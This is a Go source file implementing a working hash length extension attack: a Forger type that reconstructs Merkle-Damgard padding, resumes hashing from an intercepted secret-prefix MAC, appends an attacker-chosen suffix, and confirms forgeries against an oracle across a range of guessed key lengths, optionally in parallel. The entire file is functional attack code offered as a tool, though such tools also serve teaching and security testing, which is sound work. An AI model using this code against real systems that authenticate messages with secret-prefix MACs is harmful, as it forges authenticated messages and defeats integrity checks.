package mdext

import (
	"errors"
	"fmt"

	"github.com/codahale/mdext/pkg/mdext/internal"
	"github.com/codahale/mdext/pkg/mdext/mdpad"
	"github.com/sirupsen/logrus"
	"golang.org/x/sync/errgroup"
)

// ErrNoOracle is returned when a Forger has no algorithm or no oracle to check forgeries against.
var ErrNoOracle = errors.New("forger requires an algorithm and an oracle")

// Range is an inclusive range of candidate secret key lengths, in bytes.
type Range struct {
	Min, Max int
}

// DefaultRange is the key length range searched when none is given. It is a heuristic, not a
// property of any protocol: keys longer than 40 bytes are simply not found.
//
//nolint:gochecknoglobals // default configuration
var DefaultRange = Range{Min: 1, Max: 40}

// Validate returns ErrInvalidRange if the range is empty or includes negative lengths.
func (r Range) Validate() error {
	if r.Min < 0 || r.Min > r.Max {
		return fmt.Errorf("%w: [%d, %d]", ErrInvalidRange, r.Min, r.Max)
	}

	return nil
}

// Len returns the number of key lengths in the range.
func (r Range) Len() int {
	return r.Max - r.Min + 1
}

func (r Range) String() string {
	return fmt.Sprintf("[%d, %d]", r.Min, r.Max)
}

// Result is the outcome of a length extension attack.
type Result struct {
	// Success is true if a forged MAC was confirmed by the oracle.
	Success bool

	// KeyLength is the smallest key length for which the forgery was confirmed, or zero.
	KeyLength int

	// ForgedMAC is the MAC computed without the key. If the attack failed, it is the forgery for
	// the last key length tried.
	ForgedMAC Digest

	// OracleMAC is the oracle's MAC of Message. If the attack failed, it is the oracle's MAC for the
	// last key length tried.
	OracleMAC Digest

	// Message is the forged message, m || glue || suffix, or nil if the attack failed.
	Message []byte
}

// Glue returns the padding the hash function appended to a message of keyLength+len(message) bytes.
func Glue(alg Algorithm, keyLength int, message []byte) ([]byte, error) {
	return mdpad.Pad(uint64(keyLength+len(message)), alg.BlockSize(), alg.Endian())
}

// Forger performs length extension attacks against a secret-prefix MAC.
//
// A Forger holds no state between attacks and may be used concurrently.
type Forger struct {
	// Algorithm is the hash algorithm of the MAC.
	Algorithm Algorithm

	// Oracle computes the true MAC of a message. It is only used to confirm key length guesses.
	Oracle Oracle

	// Range is the set of key lengths to try. If it is the zero value, DefaultRange is used.
	Range Range

	// Workers is the number of key length guesses evaluated concurrently. Values less than two
	// evaluate guesses one at a time, stopping at the first success.
	Workers int

	// Log receives a record of each guess. If nil, the standard logrus logger is used.
	Log logrus.FieldLogger
}

// Forge returns the result of extending the given MAC of message with suffix, using a Forger with
// the given algorithm, oracle, and key length range.
func Forge(alg Algorithm, mac Digest, message, suffix []byte, r Range, oracle Oracle) (*Result, error) {
	f := &Forger{Algorithm: alg, Oracle: oracle, Range: r}

	return f.Forge(mac, message, suffix)
}

// attempt is a single key length guess.
type attempt struct {
	keyLength int
	forged    Digest
	oracle    Digest
	message   []byte
}

func (a *attempt) ok() bool {
	return a.forged.Equal(a.oracle)
}

// Forge extends the MAC of message with suffix. Key lengths are tried in increasing order, and the
// smallest one the oracle confirms is reported. If no key length in the range works, the returned
// Result is unsuccessful and the error is nil; errors are only returned for invalid inputs.
func (f *Forger) Forge(mac Digest, message, suffix []byte) (*Result, error) {
	if f.Algorithm == nil || f.Oracle == nil {
		return nil, ErrNoOracle
	}

	r := f.Range
	if r == (Range{}) {
		r = DefaultRange
	}

	if err := r.Validate(); err != nil {
		return nil, err
	}

	// The intercepted MAC must be a whole chaining state.
	if len(mac) != f.Algorithm.Size() {
		return nil, fmt.Errorf("%w: %s MAC must be %d bytes, not %d",
			ErrInvalidDigest, f.Algorithm.Name(), f.Algorithm.Size(), len(mac))
	}

	log := f.logger().WithFields(logrus.Fields{
		"algorithm": f.Algorithm.Name(),
		"range":     r.String(),
	})

	var (
		last *attempt
		err  error
	)

	if f.Workers > 1 {
		last, err = f.parallel(log, r, mac, message, suffix)
	} else {
		last, err = f.sequential(log, r, mac, message, suffix)
	}

	if err != nil {
		return nil, err
	}

	// Report the winning guess, if any.
	if last.ok() {
		log.WithField("key_length", last.keyLength).Info("forged MAC confirmed")

		return &Result{
			Success:   true,
			KeyLength: last.keyLength,
			ForgedMAC: last.forged,
			OracleMAC: last.oracle,
			Message:   last.message,
		}, nil
	}

	log.Warn("no key length in range produced a valid forgery")

	return &Result{ForgedMAC: last.forged, OracleMAC: last.oracle}, nil
}

// sequential tries each key length in order, returning the first success or the last failure.
func (f *Forger) sequential(log logrus.FieldLogger, r Range, mac Digest, message, suffix []byte) (*attempt, error) {
	var a *attempt

	for k := r.Min; k <= r.Max; k++ {
		var err error

		a, err = f.try(k, mac, message, suffix)
		if err != nil {
			return nil, err
		}

		logAttempt(log, a)

		if a.ok() {
			break
		}
	}

	return a, nil
}

// parallel evaluates every key length concurrently, then scans the results in order.
func (f *Forger) parallel(log logrus.FieldLogger, r Range, mac Digest, message, suffix []byte) (*attempt, error) {
	attempts := make([]*attempt, r.Len())

	g := new(errgroup.Group)
	g.SetLimit(f.Workers)

	for i := range attempts {
		i := i

		g.Go(func() error {
			a, err := f.try(r.Min+i, mac, message, suffix)
			if err != nil {
				return err
			}

			attempts[i] = a

			return nil
		})
	}

	if err := g.Wait(); err != nil {
		return nil, err
	}

	var a *attempt

	for _, a = range attempts {
		logAttempt(log, a)

		if a.ok() {
			break
		}
	}

	return a, nil
}

// try forges a MAC assuming the key is keyLength bytes long and asks the oracle for the real one.
func (f *Forger) try(keyLength int, mac Digest, message, suffix []byte) (*attempt, error) {
	// Reconstruct the padding which followed the original message.
	glue, err := Glue(f.Algorithm, keyLength, message)
	if err != nil {
		return nil, err
	}

	// Resume hashing from the MAC, accounting for the key, the message, and the glue.
	total := uint64(keyLength + len(message) + len(glue) + len(suffix))

	forged, err := f.Algorithm.Resume(mac, suffix, total)
	if err != nil {
		return nil, err
	}

	// Ask the oracle for the MAC of the forged message.
	forgedMessage := internal.Concat(message, glue, suffix)

	return &attempt{
		keyLength: keyLength,
		forged:    forged,
		oracle:    f.Oracle.MAC(forgedMessage),
		message:   forgedMessage,
	}, nil
}

func (f *Forger) logger() logrus.FieldLogger {
	if f.Log == nil {
		return logrus.StandardLogger()
	}

	return f.Log
}

func logAttempt(log logrus.FieldLogger, a *attempt) {
	log.WithFields(logrus.Fields{
		"key_length": a.keyLength,
		"forged":     a.forged.String(),
		"oracle":     a.oracle.String(),
	}).Debug("tried key length")
}
